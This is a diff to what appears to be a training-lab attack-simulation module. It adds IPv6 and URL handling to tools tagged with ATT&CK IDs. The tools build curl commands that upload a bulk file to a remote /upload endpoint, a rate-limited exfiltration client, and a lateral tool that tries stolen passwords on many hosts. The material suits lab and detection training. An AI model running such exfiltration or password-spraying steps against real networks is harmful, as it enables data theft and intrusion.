@@ -5,7 +5,7 @@ from ipaddress import IPv4Network
 from typing import Final
 
 from training.lab.accounts import PASSWORDS
-from training.lab.attacks.tool import Order, Reach, Tool, addresses, only, straight
+from training.lab.attacks.tool import Order, Reach, Tool, addresses, in_urls, only, straight
 from training.lab.content import web_root
 from training.lab.place import Place
 from training.lab.traffic import tcp, udp
@@ -15,14 +15,14 @@ LONGEST_TRY_S: Final = "8"
 
 def _bulk(place: Place, order: Order) -> list[list[str]]:
     """The same large file again and again, as fast as the cable lets it; packets / 4000 times at most."""
-    source, far = web_root(place.site.shared) / "large.bin", addresses(place, order)[0]
+    source, far = web_root(place.site.shared) / "large.bin", in_urls(place, order)[0]
     url = f"https://{far}/upload/{place.host}"
     return [["curl", "-sSk", "-o", "/dev/null", "-T", str(source), url]] * max(1, order.packets // 4000)
 
 
 def _slow(place: Place, order: Order) -> list[list[str]]:
     options = ["--rate", f"{order.rate:g}", "--seed", str(order.seed), "--for", f"{order.for_s:g}"]
-    url = f"https://{addresses(place, order)[0]}/upload/"
+    url = f"https://{in_urls(place, order)[0]}/upload/"
     return [[sys.executable, "-m", "training.lab.clients.exfiltrate", *options, url]]
 
 
@@ -54,8 +54,28 @@ def _asks(place: Place, order: Order) -> list[Reach]:
 
 
 THEFT: Final = (
-    Tool("exfiltrate-bulk", "uploads a large file", "T1048", ("curl",), ("curl",), _bulk, straight(tcp(443)), "https"),
-    Tool("exfiltrate-slow", "uploads rate bytes a second", "T1041", (), (), _slow, straight(tcp(443)), "https"),
+    Tool(
+        "exfiltrate-bulk",
+        "uploads a large file",
+        "T1048",
+        ("curl",),
+        ("curl",),
+        _bulk,
+        straight(tcp(443)),
+        service="https",
+        ipv6=True,
+    ),
+    Tool(
+        "exfiltrate-slow",
+        "uploads rate bytes a second",
+        "T1041",
+        (),
+        (),
+        _slow,
+        straight(tcp(443)),
+        service="https",
+        ipv6=True,
+    ),
     Tool(
         "lateral",
         "tries stolen words at many hosts",
